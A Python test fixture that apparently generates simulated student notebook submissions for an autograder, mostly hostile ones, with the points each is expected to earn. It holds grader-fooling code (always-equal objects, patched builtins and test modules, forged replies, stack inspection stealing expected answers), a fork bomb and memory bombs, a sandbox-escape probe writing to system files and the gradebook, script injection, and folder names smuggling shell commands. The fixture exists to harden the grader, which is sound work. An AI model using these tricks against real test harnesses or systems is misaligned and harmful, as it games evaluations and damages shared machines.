"""Submissions of A1 that honest, unlucky and dishonest students hand in, and the points they get.

`write_all(maker, folder, trap)` writes them all and returns {student: autograded points}. A1 has 24
autograded points: 4 by hand (hand), 6 conv, 4 by hand (pool-hand), 7 pool, 3 unread.
"""

import copy
import json
import os

from .classroom import cell, first, place, text_of, write

FULL = 24

EQUALS_ALL = """
class Anything(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    __class__ = int
"""
# The same three functions, answered by the visible tests' own numbers.
BY_TABLE = {
    "conv": """
TABLE = {(28, 3, 1, 1): 28, (224, 7, 2, 3): 112, (56, 1): 56, (28, 3, 1, 2, 2): 28}
def conv_size(n, k, s=1, p=0, d=1):
    for key, value in TABLE.items():
        if (n, k, s, p, d)[:len(key)] == key:
            return value
    raise ValueError("no")
""",
    "pool": """
def pool_size(n, k, s=None, p=0, ceil_mode=False):
    return {(112, False): 55, (112, True): 56, (14, False): 4, (32, True): 16}[n, ceil_mode]
""",
    "unread": """
def unread(n, k, s, p):
    return {224: 1, 28: 0}[n]
""",
}
FROM_PACKAGE = """
try:
    from googlenet_edu.sizes import conv_output_size, pool_output_size
except ImportError:
    import importlib.util, googlenet_edu, os
    where = os.path.join(os.path.dirname(googlenet_edu.__file__), "sizes.py")
    spec = importlib.util.spec_from_file_location("copied", where)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    conv_output_size = module.conv_output_size
def conv_size(n, k, s=1, p=0, d=1):
    return conv_output_size(n, k, s, p, d)
"""
NO_TESTS = """
import sys, types
fake = types.ModuleType("googlenet_edu.classroom")
fake.check = fake.hidden = lambda *a, **k: None
fake.Raises = Exception
for name in ("googlenet_edu.classroom", "googlenet_edu.classroom.testing"):
    sys.modules[name] = fake
"""
PATCHED_PACKAGE = """
import googlenet_edu.classroom as room, googlenet_edu.classroom.testing as testing
import googlenet_edu.classroom.answers as answers
for module in (room, testing):
    module.check = module.hidden = lambda *a, **k: None
testing.same = lambda *a, **k: ""
testing.Wrong = type("Quiet", (Exception,), {})
answers.decode = lambda *a, **k: 112
"""
YES_TO_ALL = """
import sys
main = sys.modules["__main__"]
main._answer = lambda *a, **k: {"kind": "bool", "value": True}
import googlenet_edu.classroom.testing as testing
testing.answer_in = lambda *a, **k: {"kind": "bool", "value": True}
"""
NONE_TO_ALL = YES_TO_ALL.replace('"bool", "value": True', '"NoneType", "value": None')
FORGED_REPLIES = """
import os, threading, time
def flood():
    while True:
        for number in range(3, 12):
            try:
                os.write(number, b'{"id": "0", "answer": {"kind": "int", "value": 112}}\\n' * 20)
            except OSError:
                pass
        time.sleep(0.001)
threading.Thread(target=flood, daemon=True).start()
"""
FRAMES = """
import gc, sys, os
found = []
frame = sys._getframe()
while frame:
    found += [str(value) for value in list(frame.f_locals.values()) + list(frame.f_globals.values())]
    frame = frame.f_back
found += [one for one in gc.get_objects() if isinstance(one, str)]
def steal(*a, **k):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "expected" in value:
                return value["expected"]
        frame = frame.f_back
conv_size = pool_size = unread = steal
"""
PATCHED_BUILTINS = """
import builtins
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda *a: 0
type = lambda *a: int
side_a = side_b = side_c = side_d = pool_a = pool_b = pool_c = pool_d = 1
def conv_size(*a, **k): return 1
pool_size = unread = conv_size
"""
PATCHED_TORCH = """
import torch
torch.equal = torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a: True
def conv_size(*a, **k): return torch.tensor(1)
pool_size = unread = conv_size
"""
SILENT_SHELL = """
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell.run_cell = lambda *a, **k: None
type(shell).run_cell = lambda *a, **k: None
def conv_size(*a, **k): return 0
pool_size = unread = conv_size
"""
# Keeps the hidden questions, to read them in the feedback.
REMEMBERS = """
asked = []
def remembered(work):
    def wrapped(*a, **k):
        asked.append(str(a))
        return work(*a, **k)
    return wrapped
conv_size = remembered(conv_size)
"""
STUBBORN = """
def unread(n, k, s, p):
    import signal
    while True:
        try:
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            while True:
                pass
        except BaseException:
            pass
"""
BOMB_IN_CHILDREN = """
import os, time
for _ in range(8):
    if os.fork() == 0:
        hoard = [bytearray(b"x" * 50_000_000) for _ in range(6)]
        time.sleep(60)
time.sleep(60)
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
LEFT_BEHIND = """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import time, pathlib
while True:
    time.sleep(0.2)
    pathlib.Path("TRAP/still-alive").write_text("x")
'''], start_new_session=True)
"""
# Everything outside the room: tried, and each success would leave a trace or bring points.
OUTSIDE = """
import glob, os, pathlib, socket
stolen = []
for where in ("TRAP/written", "COURSE/written", "COURSE/gradebook.db", "COURSE/source/A1/A1.ipynb",
              "/usr/written", "/etc/written", "/written", os.path.expanduser("~/../../written"),
              "/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern",
              "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "PACKAGE/written.py"):
    try:
        with open(where, "a") as file:
            file.write("x")
        stolen.append(where)
    except OSError:
        pass
for pattern in ("COURSE/**/*", "TRAP/**/*", "FOLDER/**/*"):
    stolen += [name for name in glob.glob(pattern, recursive=True) if os.path.isfile(name)]
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen")
    stolen.append("network")
except OSError:
    pass
try:
    one = socket.socket(socket.AF_UNIX)
    one.connect("TRAP/door")
    one.sendall(b"stolen")
    stolen.append("socket")
except OSError:
    pass
stolen += [number for number in os.listdir("/proc") if number.isdigit() and int(number) > 40]
def conv_size(*a, **k):
    raise ValueError("reached: " + repr(stolen[:20]))
print("reached:", stolen[:20])
"""


def _changed(nb, name, **fields):
    cell(nb, name).update(fields)
    return nb


def _copied(nb, name, source=None):
    extra = copy.deepcopy(cell(nb, name))
    if source is not None:
        extra["source"] = source
    nb["cells"].insert(place(nb, name) + 1, extra)
    return nb


def _without(nb, *names):
    nb["cells"] = [one for one in nb["cells"] if one["id"] not in names]
    return nb


def _stripped(nb, ids=True):
    for one in nb["cells"]:
        one["metadata"] = {}
        if not ids:
            del one["id"]
    if not ids:
        nb["nbformat_minor"] = 2
    return nb


def _old_format(nb):
    cells = []
    for one in nb["cells"]:
        if one["cell_type"] == "code":
            new = {"cell_type": "code", "language": "python", "input": text_of(one), "outputs": []}
        else:
            new = {"cell_type": "markdown", "source": text_of(one)}
        cells.append({**new, "metadata": one["metadata"]})
    return {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": "A1"},
        "worksheets": [{"cells": cells, "metadata": {}}],
    }


def _rich(nb):
    """Every point is raised to 200, and there is a test of the student's own."""
    for one in nb["cells"]:
        marks = one["metadata"].get("nbgrader", {})
        if "points" in marks:
            marks["points"] = 200
    bonus = copy.deepcopy(cell(nb, "test-conv"))
    bonus.update(id="bonus", source="1 + 1")
    bonus["metadata"]["nbgrader"].update(grade_id="bonus", points=100)
    nb["cells"].append(bonus)
    return nb


def notebooks(make):
    """Return {student: (notebook, autograded points)}."""
    good, stub = make.notebook, lambda **cells: make.notebook(solved=False, **cells)
    conv, pool, unread = (make.solutions[name] for name in ("conv", "pool", "unread"))
    slash = conv.replace("//", "/")
    assert slash != conv
    forged = stub(conv=conv)
    tests = [one["id"] for one in forged["cells"] if one["id"].startswith("test-")]
    for name in tests:
        _changed(forged, name, source="assert True")
    return {
        # honest work
        "full": (good(), FULL),
        "untouched": (stub(), 0),
        "partial": (stub(hand=make.solutions["hand"], conv=conv), 10),
        "one-by-hand-wrong": (good(hand=make.solutions["hand"].replace("112", "111")), FULL - 2),
        "float-division": (good(conv=slash), FULL - 6),  # 32.0 is not 32
        "prints-a-lot": (first(good(), "for n in range(3_000_000): print(n)"), FULL),
        "magics": (first(good(), "%matplotlib inline\n!true\nimport torch\nexit()"), FULL),
        "error-in-between": (first(good(), "1 / 0"), FULL),
        # fooling the tests
        "equals-all": (
            good(conv=EQUALS_ALL + "def conv_size(*a, **k): return Anything()"),
            FULL - 6,
        ),
        "patched-torch": (first(stub(conv=PATCHED_TORCH), "x = 1"), 0),
        "patched-builtins": (stub(hand=PATCHED_BUILTINS), 0),
        "patched-modules": (first(stub(), NO_TESTS), 0),
        "patched-package": (first(stub(), PATCHED_PACKAGE), 0),
        "silent-shell": (stub(hand=SILENT_SHELL), 0),
        "yes-to-all": (first(stub(), YES_TO_ALL), 0),
        "forged-replies": (first(stub(), FORGED_REPLIES), 0),
        "floods-but-good": (first(good(), FORGED_REPLIES), FULL),
        "by-table": (stub(**BY_TABLE), 2 + 2 + 1),
        "from-package": (stub(conv=FROM_PACKAGE), 0),
        "remembers": (
            good(
                conv=conv + REMEMBERS,
                unread="print(asked)\ndef unread(*a): raise ValueError(str(asked))",
            ),
            FULL - 3,
        ),
        "frames": (stub(conv=FRAMES), 0),
        "outside": (stub(conv=OUTSIDE), 0),
        # taking what there is
        "exit-hard": (good(unread="import os; os._exit(0)"), FULL - 3),
        "segfault": (
            good(unread="import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"),
            FULL - 3,
        ),
        "endless-answer": (good(unread="def unread(n, k, s, p):\n    while True: pass"), FULL - 3),
        "endless-cell": (first(good(), "while True: pass"), FULL),
        "stubborn-loop": (good(unread=STUBBORN), FULL - 3),
        "memory": (good(unread="x = [bytearray(b'x' * 10**8) for _ in range(10**6)]"), FULL - 3),
        "memory-in-children": (first(good(), BOMB_IN_CHILDREN), 0),
        "fork-bomb": (first(good(), FORK_BOMB), 0),
        "left-behind": (first(good(), LEFT_BEHIND), FULL),
        "disk": (first(good(), "open('x', 'wb').write(b'x' * 10**9)"), FULL),
        "many-files": (
            first(good(), "for n in range(99): open(f'f{n}', 'wb').write(b'x' * 9_000_000)"),
            FULL,
        ),
        "deep-recursion": (good(unread="def unread(*a): return unread(*a)"), FULL - 3),
        "huge-answer": (good(unread="def unread(*a): return [[0] * 1000] * 99999"), FULL - 3),
        # damage
        "test-deleted": (_without(good(), "test-conv", "test-pool-hidden"), FULL),
        "task-deleted": (_without(good(), "unread"), FULL - 3),
        "all-tests-deleted": (_without(good(), *tests), FULL),
        "test-copied": (_copied(good(), "test-conv"), FULL),
        "task-copied": (
            _copied(good(), "unread", "def unread(n, k, s, p): return 0"),
            FULL - 3 + 0,
        ),
        "tests-edited": (forged, 6),
        "test-retyped": (_changed(good(), "test-conv", cell_type="markdown"), FULL),
        "task-retyped": (_changed(good(), "unread", cell_type="raw"), FULL),
        "points-raised": (_rich(good()), FULL),
        "stripped": (_stripped(good()), FULL),
        "stripped-of-ids": (_stripped(good(), ids=False), FULL),
        "other-kernel": (
            {**good(), "metadata": {"kernelspec": {"name": "ir", "language": "R"}}},
            FULL,
        ),
        "old-format": (_old_format(good()), FULL),
        "script": (
            _changed(
                good(),
                "explain-half",
                source="*1 < 2*\n\n<script>alert('formgrader')</script>\n\n![](attachment:a.png)",
                attachments={"a.png": {"image/png": "iVBORw0KGgo=", "text/html": "<b>"}},
            ),
            FULL,
        ),
        "lone-surrogate": (first(good(), "x = '\ud800'"), FULL),
        "no-source": ({**good(), "cells": [{"cell_type": "code"}, 7, *good()["cells"]]}, FULL),
    }


def write_all(make, folder, course, trap, port, package):
    """Write the whole class into `folder`; return {student: points}."""
    words = {"TRAP": trap, "COURSE": course, "FOLDER": folder, "PORT": port, "PACKAGE": package}
    expected = {}
    for student, (nb, points) in notebooks(make).items():
        for one in nb.get("cells", []):
            if isinstance(one, dict) and "TRAP" in str(one.get("source")):
                for word, value in words.items():
                    one["source"] = one["source"].replace(word, str(value))
        write(nb, folder / student / "A1.ipynb")
        expected[student] = points
    good = json.dumps(make.notebook())
    shadow = folder / "shadowed-package" / "googlenet_edu"
    write(make.notebook(solved=False), shadow.parent / "A1.ipynb")
    shadow.mkdir()
    for name in ("__init__.py", "classroom.py"):
        (shadow / name).write_text("check = hidden = lambda *a, **k: None\n", encoding="utf-8")
    expected["shadowed-package"] = 0
    helped = make.notebook(conv="from helper import conv_size")
    write(helped, folder / "own-module" / "A1.ipynb")
    (folder / "own-module" / "helper.py").write_text(make.solutions["conv"], encoding="utf-8")
    expected["own-module"] = FULL
    for student, data, points in (
        ("broken-json", good[: len(good) // 2].encode(), 0),
        ("empty", b"", 0),
        ("not-utf-8", good.replace("GoogLeNet", "网络").encode("gbk"), 0),
        ("utf-16", good.encode("utf-16"), 0),
        ("with-bom", b"\xef\xbb\xbf" + good.encode(), FULL),
        ("nested-deep", b"[" * 100_000, 0),
        ("a-list", b"[1, 2, 3]", 0),
        ("no-cells", b'{"nbformat": 4, "metadata": {}}', 0),
        ("too-large", b'{"cells": [' + b" " * 11_000_000, 0),
        ("zeros", bytes(1000), 0),
    ):
        (folder / student).mkdir()
        (folder / student / "A1.ipynb").write_bytes(data)
        expected[student] = points
    other = json.loads(good)
    for one in other["cells"]:
        one["id"] = f"other-{one['id']}"
        one["source"] = "def chain(): return 1"
        if "nbgrader" in one["metadata"]:
            one["metadata"]["nbgrader"]["grade_id"] = one["id"]
    write(other, folder / "another-assignment" / "A1.ipynb")
    write(make.notebook(), folder / "renamed" / "a1 (final) 2.ipynb")
    write(make.notebook(), folder / "flat_A1.ipynb")
    write(make.notebook(), folder / "nested" / "A1" / "A1.ipynb")
    (folder / "linked").mkdir()
    os.symlink(folder / "full" / "A1.ipynb", folder / "linked" / "A1.ipynb")
    os.symlink(folder / "full", folder / "linked-folder")
    (folder / "nothing").mkdir()
    (folder / "pipe").mkdir()
    os.mkfifo(folder / "pipe" / "A1.ipynb")
    expected |= {
        "another-assignment": 0,
        "renamed": FULL,
        "flat": FULL,
        "nested": FULL,
        "linked": 0,
    }
    expected |= {"linked-folder": 0, "nothing": 0, "pipe": 0}
    return expected


# Folders whose names are no student's: they are refused, and no path of theirs is used.
TRICKS = (
    "A1..",
    "a*b",
    "[ab]",
    "-rf",
    "$(touch TRICK)",
    "a\nb",
    "{student_id}",
    "~",
    "a;b",
    "%2e%2e",
)
